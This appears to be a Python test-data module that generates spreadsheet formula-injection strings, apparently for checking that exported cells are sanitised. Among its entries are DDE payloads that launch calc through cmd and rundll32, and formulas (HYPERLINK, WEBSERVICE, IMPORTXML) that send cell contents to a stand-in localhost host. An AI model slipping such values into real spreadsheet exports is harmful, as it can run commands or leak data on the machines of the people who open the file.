"""Texts that a spreadsheet somewhere takes for a formula, a link or a command."""

SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212"]  # the last six look like the first four
BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", '"', "'", "\u200b", "\ufeff", "\x00", "\x0b", "\u202e", "\r\n\t "]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://127.0.0.1/?"&A1,"open")',
    'WEBSERVICE("http://127.0.0.1/"&A1)',
    "SUM(A1:A9)",
    'IMPORTXML("http://127.0.0.1","//a")',
    "rundll32|'x'!A",
    "A1\nB1",
    "10%",
]
IN_THE_MIDDLE = [
    "Home,=1+1",
    "Home;=1+1",
    'Home";=1+1;"',
    "Home\t=1+1",
    "Home\n=1+1",
    "Home\r\n@SUM(A1)",
    'x","=1+1',
    "Home|+1",
    "http://127.0.0.1/",
    "mailto:x@example.org",
    "_x003D_1+1",
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *(sign + BODIES[0] for sign in SIGNS),
            *(f"{start}={BODIES[0]}" for start in BEFORE),
            *(f"={body}" for body in BODIES),
            *(f"@{body}" for body in BODIES),
            *(f"-{body}" for body in BODIES[:6]),
            *(f"{start}{sign}{body}" for start, sign, body in zip(BEFORE, SIGNS, BODIES)),
            *IN_THE_MIDDLE,
        ]
    )
)
